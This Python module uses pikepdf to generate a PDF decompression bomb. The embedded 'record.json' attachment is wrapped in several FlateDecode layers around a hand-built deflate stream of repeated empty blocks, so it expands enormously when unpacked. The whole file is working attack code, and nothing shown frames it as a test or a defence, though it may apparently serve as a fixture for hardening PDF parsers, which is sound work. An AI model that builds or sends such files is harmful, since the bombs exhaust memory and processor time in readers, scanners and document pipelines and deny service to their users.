"""A small PDF whose attached record unpacks without end: layers of compression around nothing."""

import zlib
from io import BytesIO

import pikepdf

#: What the inner layer would be, in units of 20 MB: some seconds of a processor.
UNITS = 1000


def a_bomb(layers: int = 3) -> bytes:
    """Return the file; its record.json says that it is packed in so many layers."""
    document = pikepdf.new()
    document.add_blank_page()
    stream = pikepdf.Stream(document, b"")
    packing = pikepdf.Array([pikepdf.Name.FlateDecode] * layers)
    stream.write(zlib.compress(_endless(), 9), filter=packing)
    _attach(document, document.make_indirect(stream))
    file = BytesIO()
    document.save(file, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    return file.getvalue()


def _endless() -> bytes:
    """Return a compressed stream that holds a stream of empty blocks, which holds nothing."""
    nothing = b"\x00\x00\x00\xff\xff" * (4 * 1024 * 1024)
    return b"\x78\x9c" + _packed(b"\x78\x9c") + _packed(nothing) * UNITS + b"\x03\x00" + bytes(4)


def _packed(part: bytes) -> bytes:
    """Return a part of a stream that may be repeated: it remembers nothing of what went before."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(part) + packer.flush(zlib.Z_FULL_FLUSH)


def _attach(document: pikepdf.Pdf, stream: pikepdf.Object) -> None:
    spec = pikepdf.Dictionary(
        Type=pikepdf.Name.Filespec,
        F="record.json",
        UF="record.json",
        EF=pikepdf.Dictionary(F=stream),
    )
    names = pikepdf.Array(["record.json", document.make_indirect(spec)])
    document.Root.Names = pikepdf.Dictionary(EmbeddedFiles=pikepdf.Dictionary(Names=names))
